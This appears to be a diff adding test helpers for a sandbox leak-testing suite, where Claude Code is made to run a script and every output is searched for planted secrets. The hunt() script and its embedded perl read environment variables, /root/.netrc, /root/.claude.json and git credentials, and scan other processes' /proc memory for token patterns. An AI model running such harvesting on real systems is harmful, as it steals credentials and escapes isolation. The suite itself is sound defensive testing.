@@ -1,0 +1,126 @@
+"""What an agent tries, and the search through everything that left the runner."""
+
+import base64
+import os
+import threading
+from collections.abc import Iterator, Mapping
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+from servers import Server, Stream, post_run, say, scenario, use
+
+LOOT = "loot.txt"
+
+# Patterns that match the planted secrets without holding one: what an attacker knows of a key.
+WANTED = r"sk-pl[a]nted-[a-z0-9-]{20,}|sk-ant-oat01-pl[a]nted-[a-z0-9-]{20,}|ghs_pl[a]nted\S{20,}"
+
+# perl, because git brings it wherever a runner is.
+_PROCESSES = rf"""
+use strict; my ($scope) = @ARGV; my @pids; my $hit = qr/{WANTED}/;
+if ($scope eq "all") {{ @pids = map {{ m,/proc/(\d+), ? $1 : () }} glob("/proc/[0-9]*") }}
+else {{ my $p = $$; while ($p > 1) {{ push @pids, $p; open(my $s, "<", "/proc/$p/stat") or last;
+  local $/; <$s> =~ /.*\) \S (\d+)/s or last; $p = $1 }} }}
+sub look {{ my ($name, $data) = @_; print "$name: $1\n" while $data =~ /($hit)/g }}
+for my $p (@pids) {{
+  for my $file ("environ", "cmdline", "cwd/.env", glob("/proc/$p/fd/*")) {{
+    my $path = $file =~ m,^/, ? $file : "/proc/$p/$file";
+    next if -p $path || -S $path || -c $path || (-s $path // 0) > 1e6;
+    open(my $f, "<", $path) or next; sysread($f, my $data, 1e6); look($path, $data // "") }}
+  open(my $maps, "<", "/proc/$p/maps") or next;
+  open(my $mem, "<", "/proc/$p/mem") or next; print "memory of $p is open\n" if $p != $$;
+  while (<$maps>) {{ next unless /^([0-9a-f]+)-([0-9a-f]+) rw/ && !m,/dev/,;
+    my ($a, $b) = (hex $1, hex $2); next if $b - $a > 64e6 || $p == $$;
+    sysseek($mem, $a, 0) or next; sysread($mem, my $data, $b - $a); look("mem $p", $data // "") }}
+}}
+"""
+
+
+def hunt(scope: str) -> str:
+    """A script that writes all it finds to LOOT; `scope`: the processes `all`, or `ancestors`."""
+    return f"""exec > {LOOT} 2>&1
+env; set; cat /proc/self/environ /proc/$PPID/environ
+ps auxwwe; ls -la /tmp /proc/$PPID/fd /proc/$PPID/cwd/ /run /root /var/tmp
+cat /root/.netrc /root/.claude.json /proc/1/environ
+cat .git/config .git/FETCH_HEAD .git/logs/HEAD; git config --list --show-origin
+git credential fill <<< $'protocol=http\\nhost=127.0.0.1\\n'
+for f in /tmp/* /tmp/*/* /var/tmp/* /dev/shm/*; do
+  case $f in */pytest*|*/bash_*) continue;; esac
+  [ -f "$f" ] && grep -aoE '{WANTED}' "$f"
+done
+perl - {scope} <<'PERL'
+{_PROCESSES}
+PERL
+true"""
+
+
+def run_script(server: Server, script: str, **fields: Any) -> Stream:
+    """A run in which Claude Code is made to run a script."""
+    return post_run(
+        server.url,
+        {
+            "prompt": scenario(use("Bash", command=script, timeout=60_000), say("done")),
+            "allowedTools": ["Bash"],
+            **fields,
+        },
+    )
+
+
+def files(stream: Stream) -> Mapping[str, str]:
+    """What the run's change set holds, as text."""
+    return {
+        file["path"]: base64.b64decode(file["content"]).decode("utf-8", "replace")
+        for file in stream.changes["files"]
+        if "content" in file
+    }
+
+
+def loot(stream: Stream) -> str:
+    """What a script wrote to LOOT."""
+    return files(stream)[LOOT]
+
+
+def everything(stream: Stream, server: Server) -> str:
+    """All that left a runner for one run: the answer, its headers and files, and the log."""
+    answer = stream.body.decode("utf-8", "replace")
+    decoded = "\n".join(files(stream).values()) if stream.data("changes") else ""
+    return "\n".join([answer, str(stream.headers), decoded, server.log()])
+
+
+def spellings(secret: str) -> list[str]:
+    """A secret as it is, and as it would stand in a Basic header, a URL or another base64."""
+    shifted = [base64.b64encode((" " * n + secret).encode()).decode()[4:-4] for n in range(3)]
+    return [secret, secret[::-1], *shifted]
+
+
+def leaks(text: str, *secrets: str) -> list[str]:
+    """The secrets that a text holds, in any spelling."""
+    return [secret for secret in secrets if any(form in text for form in spellings(secret))]
+
+
+@contextmanager
+def watched_processes(*, known: set[int]) -> Iterator[set[str]]:
+    """Every argument list and environment of other processes than `known`, seen meanwhile."""
+    seen: set[str] = set()
+    stop = threading.Event()
+    spared = {str(pid) for pid in known | {os.getpid()}}
+
+    def look() -> None:
+        while not stop.wait(0.005):
+            for name in os.listdir("/proc"):  # noqa: PTH208 - often, and names only
+                if not name.isdigit() or name in spared:
+                    continue
+                for part in ("cmdline", "environ"):
+                    try:
+                        raw = Path(f"/proc/{name}/{part}").read_bytes()
+                    except OSError:
+                        continue
+                    seen.add(raw.replace(b"\0", b" ").decode("utf-8", "replace"))
+
+    thread = threading.Thread(target=look)
+    thread.start()
+    try:
+        yield seen
+    finally:
+        stop.set()
+        thread.join()
